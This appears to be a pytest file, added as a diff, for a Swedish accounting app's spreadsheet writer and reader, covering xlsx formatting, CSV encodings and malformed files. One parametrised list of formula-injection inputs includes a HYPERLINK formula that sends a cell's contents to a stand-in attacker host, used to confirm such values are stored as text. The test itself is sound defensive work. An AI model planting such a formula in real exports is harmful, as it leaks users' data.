@@ -1,0 +1,315 @@
+"""The one spreadsheet writer and reader: real .xlsx files written, then read back with
+openpyxl; CSV files in the encodings and separators accounting systems use."""
+
+import datetime
+import io
+import zipfile
+from decimal import Decimal
+
+import openpyxl
+import pytest
+
+from governance.common import spreadsheets
+from governance.common.spreadsheets import (
+    CSV,
+    DATE,
+    MONEY,
+    NUMBER,
+    PERCENT,
+    TEXT,
+    EmptyFile,
+    Formula,
+    UnreadableFile,
+    Workbook,
+    map_columns,
+    normalise,
+    read_table,
+    text,
+)
+
+# Writing --------------------------------------------------------------------------------
+
+COLUMNS = [("Namn", TEXT, 30), ("Belopp", MONEY, 18), ("Andel", PERCENT, 10), ("Dag", DATE, 12)]
+
+
+def read_back(content):
+    return openpyxl.load_workbook(io.BytesIO(content))
+
+
+def sheet_xml(content, number=1):
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return archive.read(f"xl/worksheets/sheet{number}.xml").decode()
+
+
+def test_a_sheet_has_a_bold_frozen_heading_an_auto_filter_and_formats_by_kind():
+    workbook = Workbook()
+    sheet = workbook.sheet("Poster", COLUMNS)
+    sheet.row("Tåg", Decimal("1234.50"), 38.3, datetime.date(2013, 4, 30))
+    sheet.row("Hotell", 99, None, None)
+    sheet.totals("Summa", Decimal("1333.50"))
+
+    book = read_back(workbook.bytes())
+
+    written = book["Poster"]
+    assert [cell.value for cell in written[1]] == ["Namn", "Belopp", "Andel", "Dag"]
+    assert all(cell.font.bold for cell in written[1])
+    assert written.freeze_panes == "A2"
+    assert written.auto_filter.ref == "A1:D3"  # the totals row stays out of the filter
+    assert written.column_dimensions["A"].width == 30
+    assert written["B2"].number_format == '#,##0.00 "kr"' and written["B2"].value == 1234.5
+    assert written["C2"].number_format == "0.0 %" and written["C2"].value == pytest.approx(0.383)
+    assert written["D2"].is_date and written["D2"].number_format == "yyyy-mm-dd"
+    assert written["D2"].value == datetime.datetime(2013, 4, 30)
+    assert [cell.value for cell in written[4]][:2] == ["Summa", 1333.5]
+    assert written["A4"].font.bold and written["B4"].font.bold
+    assert written["B4"].number_format == '#,##0.00 "kr"'
+
+
+def test_a_caption_and_lines_above_the_table_move_the_heading_freeze_and_filter():
+    workbook = Workbook()
+    sheet = workbook.sheet("Budget", COLUMNS, caption="Budgetuppföljning", lines=["Version 2"])
+    sheet.row("A", 1, 2, None)
+
+    written = read_back(workbook.bytes()).active
+
+    rows = list(written.iter_rows(values_only=True))
+    assert rows[0][0] == "Budgetuppföljning" and written["A1"].font.bold
+    assert rows[1][0] == "Version 2" and all(value is None for value in rows[2])
+    assert rows[3] == ("Namn", "Belopp", "Andel", "Dag")
+    assert written.freeze_panes == "A5"
+    assert written.auto_filter.ref == "A4:D5"
+
+
+FORMULA_LIKE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")',
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "#N/A",
+]
+
+
+@pytest.mark.parametrize("value", FORMULA_LIKE)
+def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_that_text(value):
+    workbook = Workbook()
+    sheet = workbook.sheet("Text", COLUMNS, caption=value)
+    sheet.row(value, value, value, value)
+    sheet.totals(value)
+
+    content = workbook.bytes()
+
+    written = read_back(content).active
+    for cell in (written["A1"], *written[4], written["A5"]):
+        assert (cell.value, cell.data_type) == (value, "s")
+    assert written["A4"].quotePrefix  # Excel keeps it text when the cell is edited
+    assert "<f>" not in sheet_xml(content)
+
+
+def test_only_a_formula_value_is_written_as_a_formula():
+    workbook = Workbook()
+    sheet = workbook.sheet("Summor", [("Namn", TEXT), ("Belopp", MONEY), ("Antal", NUMBER)])
+    sheet.row("A", 10, 1)
+    sheet.row("B", 20, 2)
+    sheet.sum_totals("Summa")
+    sheet.row("=SUM(B2:B3)", Formula("=B2*2"), None)
+
+    written = read_back(workbook.bytes()).active
+
+    assert written["B4"].value == "=SUM(B2:B3)" and written["B4"].data_type == "f"
+    assert written["B4"].number_format == '#,##0.00 "kr"' and written["B4"].font.bold
+    assert written["C4"].value is None  # no sum under a column that is not money
+    assert written["A5"].data_type == "s" and written["B5"].data_type == "f"
+    with pytest.raises(ValueError):
+        Formula("SUM(B2:B3)")
+
+
+def test_an_empty_table_gets_no_sum_row_and_a_filter_over_its_heading():
+    workbook = Workbook()
+    sheet = workbook.sheet("Tom", COLUMNS)
+    sheet.sum_totals("Summa")
+
+    written = read_back(workbook.bytes()).active
+
+    assert written.max_row == 1
+    assert written.auto_filter.ref == "A1:D2"
+
+
+def test_a_row_with_more_values_than_columns_is_a_mistake():
+    sheet = Workbook().sheet("Fel", [("Namn", TEXT)])
+    with pytest.raises(ValueError):
+        sheet.row("a", "b")
+
+
+def test_cells_of_one_row_can_take_other_kinds_than_their_columns():
+    workbook = Workbook()
+    sheet = workbook.sheet("Sammanfattning", [("Post", TEXT), ("Värde", TEXT)])
+    sheet.row("Start", datetime.date(2013, 4, 1), kinds=(TEXT, DATE))
+    sheet.row("Budget", Decimal("10.5"), kinds=(TEXT, MONEY))
+
+    written = read_back(workbook.bytes()).active
+
+    assert written["B2"].is_date and written["B2"].number_format == "yyyy-mm-dd"
+    assert written["B3"].number_format == '#,##0.00 "kr"'
+
+
+def test_the_content_type_is_the_xlsx_one():
+    assert spreadsheets.XLSX_CONTENT_TYPE == (
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    )
+
+
+# Reading --------------------------------------------------------------------------------
+
+
+def xlsx(rows):
+    workbook = openpyxl.Workbook()
+    for row in rows:
+        workbook.active.append(row)
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+def read_all(content, kind=spreadsheets.XLSX, **options):
+    with read_table(content, kind, **options) as table:
+        return table.header_row, table.headers, list(table.rows)
+
+
+def test_the_header_is_the_first_non_blank_row_and_rows_keep_excel_numbers():
+    content = xlsx(
+        [
+            [],
+            [None, "  "],
+            ["Datum", "Belopp", None, "Text"],  # row 3
+            [datetime.datetime(2013, 4, 30), 12.5, None, "Tåg"],
+            [],
+            [None, None, None, " "],
+            ["2013-05-02", 7, None, "Buss"],  # row 7
+        ]
+    )
+
+    header_row, headers, rows = read_all(content)
+
+    assert header_row == 3
+    assert headers == ["Datum", "Belopp", "", "Text"]
+    assert [number for number, _values in rows] == [4, 7]
+    assert rows[0][1] == (datetime.datetime(2013, 4, 30), 12.5, None, "Tåg")
+
+
+def test_with_cells_the_rows_tell_a_percentage_from_a_number():
+    workbook = openpyxl.Workbook()
+    workbook.active.append(["Framsteg"])
+    workbook.active.append([0.5])
+    workbook.active["A2"].number_format = "0%"
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+
+    with read_table(buffer, cells=True) as table:
+        (number, (cell,)), *_rest = table.rows
+    assert number == 2 and cell.value == 0.5 and "%" in cell.number_format
+
+
+@pytest.mark.parametrize(
+    ("raw", "encoding"),
+    [
+        ("Datum;Belopp;Text\r\n2013-04-30;1 234,50;Lön\r\n", "utf-8-sig"),
+        ('Datum,Belopp,Text\n2013-04-30,"1 234,50",Lön\n', "utf-8"),
+        ("Datum\tBelopp\tText\r\n2013-04-30\t1 234,50\tLön\r\n", "cp1252"),
+        ("\r\n;;\r\nDatum;Belopp;Text\r\n;;\r\n\r\n2013-04-30;1 234,50;Lön\r\n", "cp1252"),
+    ],
+)
+def test_a_csv_is_read_in_its_encoding_and_separator(raw, encoding):
+    header_row, headers, rows = read_all(raw.encode(encoding), CSV)
+
+    assert headers == ["Datum", "Belopp", "Text"]
+    ((number, values),) = rows
+    assert values == ["2013-04-30", "1 234,50", "Lön"]
+    assert number == header_row + (3 if raw.startswith("\r\n") else 1)
+
+
+@pytest.mark.parametrize(
+    ("content", "kind"),
+    [(b"", spreadsheets.XLSX), (b"", CSV), (b"\r\n;;\r\n", CSV), (xlsx([[], [None, " "]]), "xlsx")],
+    ids=["no bytes", "no bytes csv", "blank csv rows", "blank sheet"],
+)
+def test_a_file_without_anything_in_it_is_empty(content, kind):
+    with pytest.raises(EmptyFile):
+        read_all(content, kind)
+
+
+def docx_like_zip():
+    output = io.BytesIO()
+    with zipfile.ZipFile(output, "w") as archive:
+        archive.writestr("word/document.xml", "<document/>")
+    return output.getvalue()
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"Kod;Aktivitet\nA.1;Test\n",
+        b"PK\x03\x04 not really a zip",
+        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),  # an old .xls
+        docx_like_zip(),
+    ],
+    ids=["csv", "not a zip", "old xls", "docx"],
+)
+def test_a_file_that_is_no_workbook_is_unreadable(content):
+    with pytest.raises(UnreadableFile) as raised:
+        read_all(content)
+    assert not isinstance(raised.value, EmptyFile)
+
+
+def test_a_workbook_that_breaks_half_way_is_unreadable_while_its_rows_are_read():
+    rows = [["Kod", "Text"], *([number, "x" * 40] for number in range(500))]
+    source = zipfile.ZipFile(io.BytesIO(xlsx(rows)))
+    broken = io.BytesIO()
+    with zipfile.ZipFile(broken, "w") as archive:
+        for item in source.infolist():
+            data = source.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                data = data[: len(data) // 2]
+            archive.writestr(item, data)
+
+    with read_table(broken) as table:
+        assert table.headers == ["Kod", "Text"]  # the start of the sheet is fine
+        with pytest.raises(UnreadableFile):
+            list(table.rows)
+
+
+def test_headers_map_to_fields_by_their_normalised_text():
+    headers = ["  Bokförings\u00a0datum: ", "BELOPP", "Text", "text", ""]
+    labels = {
+        "date": ["Datum", "bokförings datum"],
+        "amount": ["belopp", "summa"],
+        "description": ["Text"],
+        "voucher": ["Verifikation"],
+    }
+
+    assert map_columns(headers, labels) == {"date": 0, "amount": 1, "description": 2}
+    assert normalise(" Ansvariga \n personer: ") == "ansvariga personer"
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        (None, ""),
+        (" A.1 ", "A.1"),
+        (12.0, "12"),
+        (12.5, "12.5"),
+        (2001, "2001"),
+        (datetime.datetime(2013, 4, 30), "2013-04-30"),
+        (datetime.datetime(2013, 4, 30, 8, 15), "2013-04-30 08:15:00"),
+        (datetime.date(2013, 4, 30), "2013-04-30"),
+    ],
+)
+def test_text_is_what_the_user_sees_in_the_cell(value, expected):
+    assert text(value) == expected
+
+
+def test_blank_means_nothing_or_only_white_space():
+    assert spreadsheets.is_blank(None) and spreadsheets.is_blank(" \t")
+    assert not spreadsheets.is_blank(0) and not spreadsheets.is_blank("0")
